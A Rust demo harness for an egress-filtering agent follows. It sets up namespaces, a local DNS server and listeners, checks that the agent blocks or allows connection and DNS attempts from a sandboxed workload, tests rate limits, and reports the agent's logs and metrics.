/// Every DNS attempt without the agent: the rogue resolver receives each query sent to it,
/// and the demo's DNS server answers every name, the refused ones included. Otherwise a
/// block under the agent would prove nothing.
fn dns_control_run(tb: &Testbed, client: &Path, listeners: &[Listener]) -> Result<()> {
    let mut args = vec![
        "--timeout-ms".to_owned(),
        CONTROL_DNS_TIMEOUT_MS.to_string(),
    ];
    args.extend(DNS_ATTEMPTS.iter().map(DnsAttempt::step));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    let before: Vec<usize> = listeners.iter().map(|l| l.received().len()).collect();
    let out =
        run_probe_as_nobody(tb.client(), client, &refs).context("control run of the DNS client")?;
    let results = client_results(&out);
    let mut problems = Vec::new();
    let mut resolved = Vec::new();
    for attempt in &DNS_ATTEMPTS {
        if attempt.rogue() {
            let l = attempt.rogue_listener();
            let got = listeners[l].wait_for(&wire_name(attempt.name), ARRIVAL_WAIT);
            if !contains(&got[before[l].min(got.len())..], &wire_name(attempt.name)) {
                problems.push(format!(
                    "{} ({}): the rogue resolver did not receive it",
                    attempt.describe(),
                    attempt.transport
                ));
            }
        } else {
            let v = client_result(&results, &attempt.step());
            match v {
                Some(v)
                    if v["rcode"] == "NOERROR"
                        && v["addresses"].as_array().is_some_and(|a| !a.is_empty()) =>
                {
                    resolved.push(format!("{} -> {}", attempt.name, describe_answer(Some(v))));
                }
                _ => problems.push(format!(
                    "{}: not answered ({})",
                    attempt.describe(),
                    describe_answer(v)
                )),
            }
        }
    }
    if !problems.is_empty() {
        bail!(
            "control run of the DNS client without the agent failed, so the demo world is broken: \
             {}\n{}",
            problems.join("; "),
            out.describe()
        );
    }
    println!(
        "Control run WITHOUT the agent, DNS: the rogue resolver received all {} queries sent to \
         it, and the demo's DNS server answered {}.",
        DNS_ATTEMPTS.iter().filter(|a| a.rogue()).count(),
        resolved.join(", ")
    );
    Ok(())
}

/// `name` in DNS wire format (length-prefixed labels), as it appears inside a query.
fn wire_name(name: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(name.len() + 2);
    for label in name.split('.') {
        out.push(u8::try_from(label.len()).unwrap_or(u8::MAX));
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out
}

/// A copy of a binary in a fresh 0755 directory, so that uid nobody can run it wherever the
/// checkout lives. Removed on drop.
struct StagedBinary {
    path: PathBuf,
    _dir: tempfile::TempDir,
}

impl StagedBinary {
    fn new(binary: &Path) -> Result<Self> {
        use std::os::unix::fs::PermissionsExt as _;
        let dir = tempfile::Builder::new()
            .prefix("egress-demo-")
            .tempdir()
            .context("creating a temp dir for the DNS client")?;
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755))?;
        let path = dir.path().join(DNS_CLIENT);
        // Copied by a child process: a writable descriptor in this threaded process could
        // leak into a concurrently forked child and make exec fail with ETXTBSY.
        let cp = egress_tests::find_tool("cp").context("`cp` is not installed")?;
        let out = Command::new(cp)
            .arg("--")
            .arg(binary)
            .arg(&path)
            .output()
            .context("running cp")?;
        if !out.status.success() {
            bail!(
                "copying {}: {}",
                binary.display(),
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
        Ok(StagedBinary { path, _dir: dir })
    }

    fn path(&self) -> &Path {
        &self.path
    }
}

/// The probe next to this binary (cargo builds both into the same directory), or
/// `$EGRESS_PROBE_BIN`.
fn probe_bin() -> Result<PathBuf> {
    sibling_bin("egress-probe", "EGRESS_PROBE_BIN")
}

/// The binary `name` next to this one (cargo builds them into the same directory), or the
/// path in the environment variable `var`.
fn sibling_bin(name: &str, var: &str) -> Result<PathBuf> {
    let path = match std::env::var_os(var) {
        Some(p) => PathBuf::from(p),
        None => std::env::current_exe()
            .context("locating the demo binary")?
            .with_file_name(name),
    };
    if !path.is_file() {
        bail!(
            "the workload binary {} does not exist: build it with `cargo build --release -p \
             egress-tests --bins` (`cargo xtask demo` does), or set {var}",
            path.display()
        );
    }
    Ok(path)
}

/// Adds every stand-in address to the remote namespace and starts one listener per service,
/// in [`SERVICES`] order.
fn build_world(tb: &Testbed) -> Result<Vec<Listener>> {
    let mut addresses: Vec<IpAddr> = SERVICES.iter().map(|s| s.addr.ip()).collect();
    addresses.sort();
    addresses.dedup();
    for ip in addresses {
        tb.topo
            .add_remote_addr(ip)
            .with_context(|| format!("adding {ip} to the remote namespace"))?;
    }
    SERVICES
        .iter()
        .map(|s| {
            match s.proto {
                Proto::Tcp => tb.listen_tcp(s.addr),
                Proto::Udp => tb.listen_udp(s.addr),
            }
            .with_context(|| format!("starting the {} listener on {}", s.name, s.addr))
        })
        .collect()
}

/// Starts the demo's DNS server on an address of its own in the remote namespace.
fn start_dns(tb: &Testbed) -> Result<Dnsmasq> {
    let ip = IpAddr::V4(DNS_SERVER);
    tb.topo
        .add_remote_addr(ip)
        .with_context(|| format!("adding {ip} to the remote namespace"))?;
    Dnsmasq::start(tb.remote(), ip, &DNS_RECORDS)
        .with_context(|| format!("starting the demo's DNS server on {ip}"))
}

/// The resolv.conf the agent reads: the demo's DNS server only.
fn write_resolv_conf() -> Result<tempfile::NamedTempFile> {
    let mut file = tempfile::Builder::new()
        .prefix("egress-demo-resolv-")
        .suffix(".conf")
        .tempfile()
        .context("creating the demo's resolv.conf")?;
    writeln!(file, "nameserver {DNS_SERVER}").context("writing the demo's resolv.conf")?;
    Ok(file)
}

fn print_world(tb: &Testbed) {
    println!(
        "\nWorld: workload namespace {} --veth-- remote namespace {}",
        tb.client().name(),
        tb.remote().name()
    );
    println!(
        "Names are served by a local DNS server, dnsmasq at {DNS_SERVER}:53 in the remote \
         namespace, which answers only:"
    );
    for (name, ip) in &DNS_RECORDS {
        let kind = if ip.is_ipv4() { "A" } else { "AAAA" };
        println!("  {name:<18} {kind:<4} {ip}");
    }
    println!(
        "The agent resolves the policy's host names through it (dns_policy.allowed_resolvers), \
         and its DNS\nproxy answers the workload's own queries, forwarding allowed names to it \
         and no other server."
    );
    println!("Services (listeners in the remote namespace):");
    for s in &SERVICES {
        let proto = match s.proto {
            Proto::Tcp => "tcp",
            Proto::Udp => "udp",
        };
        println!("  {proto} {}", s.dest());
    }
    println!(
        "Workloads, as uid nobody (65534), standing in for an MCP server: egress-probe (connects \
         and sends\nby address) and egress-dns-client (DNS queries over UDP and TCP, as a stub \
         resolver sends them)"
    );
}

/// Runs every attempt without the agent: all must connect and deliver, or the demo world is
/// broken and a block under the agent would prove nothing.
fn control_run(tb: &Testbed, listeners: &[Listener]) -> Result<()> {
    let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "control")).collect();
    let refs: Vec<&str> = ops.iter().map(String::as_str).collect();
    let out = tb.run_probe(&refs).context("control run of the probe")?;
    let mut problems = Vec::new();
    for (attempt, op) in ATTEMPTS.iter().zip(&ops) {
        let s = &SERVICES[attempt.service];
        match out.result(op) {
            Some(r) if r.ok => {}
            Some(r) => problems.push(format!(
                "{} {}: {}",
                s.name,
                s.addr,
                r.error.as_deref().unwrap_or("failed")
            )),
            None => problems.push(format!("{} {}: the op did not run", s.name, s.addr)),
        }
        let got = listeners[attempt.service]
            .wait_for(payload(attempt, "control").as_bytes(), ARRIVAL_WAIT);
        if !contains(&got, payload(attempt, "control").as_bytes()) {
            problems.push(format!("{} {}: nothing arrived", s.name, s.addr));
        }
    }
    if !problems.is_empty() {
        bail!(
            "control run without the agent failed, so the demo world is broken: {}\n{}",
            problems.join("; "),
            out.describe()
        );
    }
    println!(
        "\nControl run WITHOUT the agent: all {} attempts connected and their bytes arrived \
         (every destination below is reachable; a block is the agent's doing).",
        ATTEMPTS.len()
    );
    Ok(())
}

fn payload(attempt: &Attempt, tag: &str) -> String {
    format!("[{tag}] {}", attempt.body)
}

fn op(attempt: &Attempt, tag: &str) -> String {
    let s = &SERVICES[attempt.service];
    format!(
        "{} {} {} {}",
        attempt.how,
        s.addr.ip(),
        s.addr.port(),
        payload(attempt, tag)
    )
}

/// Prints one line for an attempt and returns whether it behaved as expected.
fn report_attempt(
    attempt: &Attempt,
    result: Option<&ProbeResult>,
    new_bytes: &[u8],
    payload: &str,
) -> bool {
    let s = &SERVICES[attempt.service];
    let syscall = match result {
        None => "did not run".to_owned(),
        Some(r) if r.ok => "ok".to_owned(),
        Some(r) => r
            .errno
            .map_or_else(|| r.error.clone().unwrap_or_default(), errno_name),
    };
    let arrived = contains(new_bytes, payload.as_bytes());
    let (passed, expected) = match attempt.expect {
        Expect::Allowed => (result.is_some_and(|r| r.ok) && arrived, "allowed"),
        Expect::Blocked => (
            result.is_some_and(|r| r.failed_with(libc::EPERM)) && new_bytes.is_empty(),
            "blocked (EPERM)",
        ),
        Expect::Redirected => (
            result.is_some_and(|r| r.ok) && new_bytes.is_empty(),
            "sent, never arrives",
        ),
    };
    let bytes = if new_bytes.is_empty() {
        "nothing arrived".to_owned()
    } else if arrived {
        format!("{} bytes arrived", new_bytes.len())
    } else {
        format!("{} unexpected bytes arrived", new_bytes.len())
    };
    println!(
        "  {}  {:<38} {:<22} expect {expected:<19} syscall: {syscall:<7} listener: {bytes}",
        if passed { "PASS" } else { "FAIL" },
        s.dest(),
        attempt.how,
    );
    passed
}

/// The agent hook that judges a probe op (`send tcp6`, `sendto udp4`, ...).
fn hook_of(how: &str) -> &'static str {
    match (how.starts_with("sendto "), how.ends_with('6')) {
        (false, false) => "connect4",
        (false, true) => "connect6",
        (true, false) => "sendmsg4",
        (true, true) => "sendmsg6",
    }
}

/// Under a blocked attempt: the agent's `egress_blocked` line for it (same destination,
/// port and hook), with `dst.host` when the address came from a policy host name.
/// Informational, like [`print_blocked_in_log`].
fn print_logged_event(run: &RunOutput, attempt: &Attempt) {
    let addr = SERVICES[attempt.service].addr;
    let (ip, port, hook) = (
        addr.ip().to_string(),
        addr.port().to_string(),
        hook_of(attempt.how),
    );
    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
    let event = log_objects(run).find(|f| {
        field(f, "event").as_deref() == Some("egress_blocked")
            && field(f, "dst.ip").as_deref() == Some(ip.as_str())
            && field(f, "dst.port").as_deref() == Some(port.as_str())
            && field(f, "hook").as_deref() == Some(hook)
    });
    let Some(event) = event else {
        println!("        logged: no egress_blocked line for {addr} ({hook})");
        return;
    };
    let mut line = String::from("        logged:");
    for key in ["reason", "hook", "dst.host", "rule.target"] {
        if let Some(value) = field(&event, key) {
            let _ = write!(line, " {key}={value}");
        }
    }
    if !event.contains_key("dst.host") {
        line.push_str(" (no dst.host: not an address of a policy host)");
    }
    println!("{line}");
}

/// Case 4. The demo policy plus MCP-NET-02's `rate_limits` goes to `egress-agent check`
/// first: an agent that refuses it does not enforce rate limits, and the case says so
/// rather than fake it. An agent that accepts it is held to it: a burst of 101 connections
/// to api.company.com under 100 per 60 s must end with the 101st refused. Returns `None` when
/// the agent does not enforce rate limits, else whether the case passed.
fn rate_limit_case(
    agent: &Path,
    tb: &Testbed,
    policy_text: &str,
    resolv_conf: &Path,
    listener: &Listener,
) -> Result<Option<bool>> {
    let path = tb.write_policy(policy_text)?;
    let out = Command::new(agent)
        .arg("check")
        .arg(&path)
        .output()
        .with_context(|| format!("running {} check", agent.display()))?;
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    println!(
        "  policy: {POLICY} as written: its rate_limits (per destination 100 per 60 s, global \
         1000 per 60 s)"
    );
    println!("  `egress-agent check` on it -> {}", out.status);
    if !out.status.success() {
        for line in text.lines().filter(|l| !l.trim().is_empty()).take(6) {
            println!("    | {line}");
        }
        println!(
            "  NOT YET ENFORCED: rate limits land in a later version; the agent refuses policies \
             with rate_limits"
        );
        return Ok(None);
    }

    let target = SERVICES[0].addr;
    let op = format!("connect tcp4 {} {}", target.ip(), target.port());
    let accepted_before = listener.connections();
    let run = AgentRun::new(&path, &tb.cgroups, tb.probe.path())?
        .agent_arg("--resolv-conf")
        .agent_arg(resolv_conf)
        .agent_arg("--log-format")
        .agent_arg("json")
        .args(std::iter::repeat_n(&op, BURST))
        .timeout(AGENT_TIMEOUT)
        .run_in(tb.client())
        .context("running the agent for the rate-limit case")?;
    std::thread::sleep(egress_tests::server::SETTLE);
    let accepted = listener.connections() - accepted_before;

    // The probe prints one result per op, in order.
    let results = &run.results;
    let first_ok = results.iter().take(BURST - 1).filter(|r| r.ok).count();
    let last = results.get(BURST - 1);
    let last_text = match last {
        None => "did not run".to_owned(),
        Some(r) if r.ok => "ok".to_owned(),
        Some(r) => r
            .errno
            .map_or_else(|| r.error.clone().unwrap_or_default(), errno_name),
    };
    let passed = results.len() == BURST
        && first_ok == BURST - 1
        && last.is_some_and(|r| r.failed_with(libc::EPERM))
        && accepted == BURST - 1
        && run.exit_code() == Some(0);
    println!(
        "  {}  {:<38} {BURST} x `connect tcp4` in one burst ({:.1?} for the whole agent run)",
        if passed { "PASS" } else { "FAIL" },
        SERVICES[0].dest(),
        run.elapsed
    );
    println!(
        "        connections 1-{}: {first_ok} ok; connection {BURST}: {last_text}; the listener \
         accepted {accepted} new connections (expected {} ok, EPERM, {})",
        BURST - 1,
        BURST - 1,
        BURST - 1
    );
    let blocked_lines: Vec<String> = run
        .stderr
        .lines()
        .filter(|l| {
            log_object(l).is_some_and(|f| f.get("level").map(json_text).as_deref() == Some("WARN"))
        })
        .map(render_log_line)
        .collect();
    for line in &blocked_lines {
        println!("        agent: {line}");
    }
    if !passed {
        println!("{}", run.describe());
    }
    Ok(Some(passed))
}

/// The agent's exit status (the workload's own when all went well) and its log lines.
fn print_agent_output(label: &str, run: &RunOutput) {
    println!(
        "\nAgent run ({label}): {}{} after {:.1?}",
        run.status,
        if run.timed_out {
            " (TIMED OUT, killed)"
        } else {
            ""
        },
        run.elapsed
    );
    println!("Agent log (stderr, JSON lines rendered):");
    for line in run.stderr.lines().filter(|l| !l.trim().is_empty()) {
        println!("  {}", render_log_line(line));
    }
    for line in &run.other_stdout {
        println!("  workload stdout: {line}");
    }
}

/// What the demo's DNS server was asked during the agent runs (from `since` on in its log):
/// the agent's own lookups of the policy's names and what its proxy forwarded, each distinct
/// query once with its count. The workload never reaches it directly.
fn print_dns_queries(dns: &Dnsmasq, since: usize) {
    let mut queries = dns.queries();
    let queries = queries.split_off(since.min(queries.len()));
    let mut distinct: Vec<(&str, usize)> = Vec::new();
    for q in &queries {
        // Without dnsmasq's `Mon dd hh:mm:ss dnsmasq[pid]: ` prefix.
        let text = q.split_once("]: ").map_or(q.as_str(), |(_, rest)| rest);
        match distinct.iter_mut().find(|(t, _)| *t == text) {
            Some((_, n)) => *n += 1,
            None => distinct.push((text, 1)),
        }
    }
    println!(
        "\nDNS queries the demo's DNS server received during the agent runs ({} in dnsmasq's log: \
         the agent's lookups of the policy's names and the allowed queries its proxy forwarded):",
        queries.len()
    );
    for (text, n) in distinct {
        println!("  {n:>3} x {text}");
    }
}

/// Runs the agent while a thread in the workload's namespace scrapes its metrics endpoint;
/// returns the run and the last exposition scraped (taken after the attempts, while the
/// workload lingers).
fn run_scraping_metrics(agent_run: &AgentRun, tb: &Testbed) -> Result<(RunOutput, Option<String>)> {
    let done = AtomicBool::new(false);
    let last = Mutex::new(None);
    let netns = tb.client().handle();
    let run = std::thread::scope(|scope| {
        scope.spawn(|| {
            if netns.enter_current_thread().is_err() {
                return;
            }
            while !done.load(Ordering::SeqCst) {
                if let Ok(body) = scrape_metrics() {
                    *last.lock().unwrap_or_else(PoisonError::into_inner) = Some(body);
                }
                std::thread::sleep(SCRAPE_EVERY);
            }
        });
        let run = agent_run.run_in(tb.client());
        done.store(true, Ordering::SeqCst);
        run
    })
    .context("running the agent")?;
    Ok((
        run,
        last.into_inner().unwrap_or_else(PoisonError::into_inner),
    ))
}

/// One `GET /metrics`; the body of a 200 answer.
fn scrape_metrics() -> std::io::Result<String> {
    let mut stream = TcpStream::connect_timeout(&METRICS_ADDR, SCRAPE_EVERY)?;
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    stream.write_all(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    match answer.split_once("\r\n\r\n") {
        Some((head, body)) if head.split_whitespace().nth(1) == Some("200") => Ok(body.to_owned()),
        _ => Err(std::io::Error::other(format!(
            "unexpected answer: {:?}",
            answer.lines().next().unwrap_or_default()
        ))),
    }
}

/// The agent's Prometheus samples whose names start with `prefix` (without HELP/TYPE
/// comments).
fn print_metrics(label: &str, exposition: Option<&str>, prefix: &str) {
    let Some(text) = exposition else {
        println!(
            "\nMetrics ({label}): no answer from http://{METRICS_ADDR}/metrics while the agent ran"
        );
        return;
    };
    println!(
        "\nMetrics ({label}) scraped from http://{METRICS_ADDR}/metrics after the attempts, \
         {prefix}*:"
    );
    for line in text.lines().filter(|l| l.starts_with(prefix)) {
        println!("  {line}");
    }
}

/// The verdict counters the agent logs when the workload has exited, as a table.
fn print_counters(run: &RunOutput) {
    let rows: Vec<[String; 4]> = log_objects(run)
        .filter(|f| f.get("message").and_then(|m| m.as_str()) == Some("verdict count"))
        .map(|f| {
            ["verdict", "reason", "protocol", "count"]
                .map(|k| f.get(k).map(json_text).unwrap_or_default())
        })
        .collect();
    if rows.is_empty() {
        println!("\nKernel verdict counters: none in the agent's log");
        return;
    }
    println!("\nKernel verdict counters, as the agent logged them when the workload had exited:");
    println!(
        "  {:<8} {:<20} {:<9} {:>5}",
        "verdict", "reason", "protocol", "count"
    );
    for [verdict, reason, protocol, count] in rows {
        println!("  {verdict:<8} {reason:<20} {protocol:<9} {count:>5}");
    }
}

/// MCP-NET-02 wants blocked attempts in the logs: say how many of the demo's blocked
/// destinations (address and port) a line of the agent's log names. Informational: it
/// depends on what this version logs.
fn print_blocked_in_log(run: &RunOutput) {
    let mut blocked: Vec<SocketAddr> = ATTEMPTS
        .iter()
        .filter(|a| a.expect == Expect::Blocked)
        .map(|a| SERVICES[a.service].addr)
        .collect();
    blocked.sort();
    blocked.dedup();
    let lines: Vec<Vec<String>> = log_objects(run)
        .map(|f| f.values().map(json_text).collect())
        .collect();
    let named = blocked
        .iter()
        .filter(|addr| {
            let (ip, port, both) = (
                addr.ip().to_string(),
                addr.port().to_string(),
                addr.to_string(),
            );
            lines.iter().any(|values| {
                values.iter().any(|v| v.contains(&both))
                    || (values.iter().any(|v| v == &ip) && values.iter().any(|v| v == &port))
            })
        })
        .count();
    println!(
        "Blocked destinations named in the agent's log: {named} of {}{}",
        blocked.len(),
        if named == 0 {
            " (no line of the log above names a blocked address and port)"
        } else {
            ""
        }
    );
}

fn agent_exit_ok(run: &RunOutput) -> bool {
    let ok = !run.timed_out && run.exit_code() == Some(0);
    if !ok {
        println!(
            "FAIL: the agent run did not end cleanly (expected exit status 0, the workload's)\n{}",
            run.describe()
        );
    }
    ok
}

type LogObject = serde_json::Map<String, serde_json::Value>;

fn log_object(line: &str) -> Option<LogObject> {
    match serde_json::from_str::<serde_json::Value>(line) {
        Ok(serde_json::Value::Object(fields)) => Some(fields),
        _ => None,
    }
}

/// The agent's JSON log lines.
fn log_objects(run: &RunOutput) -> impl Iterator<Item = LogObject> + '_ {
    run.stderr.lines().filter_map(log_object)
}

fn json_text(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Long field values (the workload's command line holds every op) cut to a readable length.
fn shorten(value: &str) -> String {
    const MAX: usize = 60;
    match value.char_indices().nth(MAX) {
        Some((end, _)) => format!("{}...", &value[..end]),
        None => value.to_owned(),
    }
}

/// `LEVEL message key=value ...` from a tracing JSON line; other lines unchanged.
fn render_log_line(line: &str) -> String {
    let Some(fields) = log_object(line) else {
        return line.to_owned();
    };
    let level = fields.get("level").map(json_text).unwrap_or_default();
    let message = fields.get("message").map(json_text).unwrap_or_default();
    let mut out = format!("{level:<5} {message}");
    for (key, value) in &fields {
        if !matches!(key.as_str(), "level" | "message" | "timestamp" | "target") {
            let _ = write!(out, " {key}={}", shorten(&json_text(value)));
        }
    }
    out
}
